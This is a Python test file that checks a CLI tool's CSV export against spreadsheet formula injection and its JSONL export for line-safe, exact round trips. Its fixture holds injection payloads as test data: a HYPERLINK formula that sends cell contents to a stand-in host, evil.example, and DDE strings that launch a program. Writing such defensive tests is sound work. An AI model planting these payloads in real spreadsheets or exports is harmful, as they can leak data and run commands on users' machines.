"""Export of hostile text: CSV cells that a spreadsheet would run as a formula are
neutralised, JSONL keeps one record per line, and a JSONL round trip gives the text back
exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from tui import cli

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3 said the ministry",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed start said the NIS.",
    "=1+1",
]
LINE_BREAKERS = {
    "LS": "line\u2028separator said the NIS.",
    "PS": "paragraph\u2029separator said the NIS.",
    "CR": "carriage\rreturn said the NIS.",
    "NEL": "next\x85line said the NIS.",
    "VT/FF": "vertical\x0btab\x0cfeed said the NIS.",
    "FS/GS/RS": "file\x1cgroup\x1drecord\x1esep said the NIS.",
    "LF": "escaped\nnewline said the NIS.",
}
EXTRA = [
    "[bold]markup[/] and [link=http://x]a link[/link] said the NIS.",
    "\x1b[31mred\x1b[0m said the NIS.",
    "مرحبا said the spokesman, citing ‏RTL‏ sources.",
    "Zalgo z\u0301\u0302\u0303\u0304 and emoji 👨\u200d👩\u200d👧 and 🇺🇦 said Zelenskyy.",
]


@pytest.fixture
def hostile_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    source = tmp_path / "hostile.jsonl"
    with source.open("w", encoding="utf-8") as out:
        for text in [*FORMULAS, *LINE_BREAKERS.values(), *EXTRA]:
            out.write(json.dumps({"text": text}) + "\n")
        out.write(json.dumps({"text": "From a formula document.", "document": "=cmd|'/C calc'!A0"}) + "\n")
    result = CliRunner().invoke(cli.main, ["--db", "h.db", "import", str(source)])
    assert result.exit_code == 0, result.stderr
    return tmp_path / "h.db"


def export(db: Path, *args: str) -> str:
    result = CliRunner().invoke(cli.main, ["--db", str(db), "export", *args], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    return result.stdout


def test_csv_cells_never_start_a_formula(hostile_db: Path):
    rows = list(csv.DictReader(io.StringIO(export(hostile_db, "--format", "csv"))))
    assert len(rows) == len(FORMULAS) + len(LINE_BREAKERS) + len(EXTRA) + 1
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    texts = {row["text"] for row in rows}
    for formula in (f.strip() for f in FORMULAS):  # import strips the leading tab
        expected = "'" + formula if formula.startswith(("=", "+", "-", "@")) else formula
        assert expected in texts
    assert "'=cmd|'/C calc'!A0" in {row["document"] for row in rows}


def test_csv_written_to_a_file_is_neutralised_too(hostile_db: Path, tmp_path: Path):
    out = tmp_path / "out.csv"
    export(hostile_db, "--format", "csv", "-o", str(out))
    with out.open(encoding="utf-8", newline="") as handle:
        for row in csv.reader(handle):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_jsonl_is_one_record_per_newline_and_round_trips_exactly(hostile_db: Path, tmp_path: Path):
    out = tmp_path / "out.jsonl"
    export(hostile_db, "-o", str(out))
    data = out.read_bytes()
    records = [json.loads(line) for line in data.split(b"\n") if line]
    assert len(records) == data.count(b"\n") == len(FORMULAS) + len(LINE_BREAKERS) + len(EXTRA) + 1
    # Read back by our own importer into a fresh database: every text comes back the same.
    result = CliRunner().invoke(cli.main, ["--db", "fresh.db", "import", str(out)])
    assert result.exit_code == 0, result.stderr
    again = [json.loads(line) for line in export(tmp_path / "fresh.db").split("\n") if line]
    assert [r["text"] for r in again] == [r["text"] for r in records]
    assert [r["document"] for r in again] == [r["document"] for r in records]
    assert {r["text"] for r in records} == {t.strip() for t in
                                            [*FORMULAS, *LINE_BREAKERS.values(), *EXTRA,
                                             "From a formula document."]}


def test_jsonl_escapes_every_c0_control(hostile_db: Path):
    """json.dumps escapes U+0000–U+001F (\\r, \\x0b, \\x1c …) even with ensure_ascii=False."""
    text = export(hostile_db)
    assert not any(ch in text for ch in "\r\x0b\x0c\x1c\x1d\x1e")


def test_jsonl_survives_str_splitlines(hostile_db: Path):
    text = export(hostile_db)
    assert len(text.splitlines()) == text.count("\n")
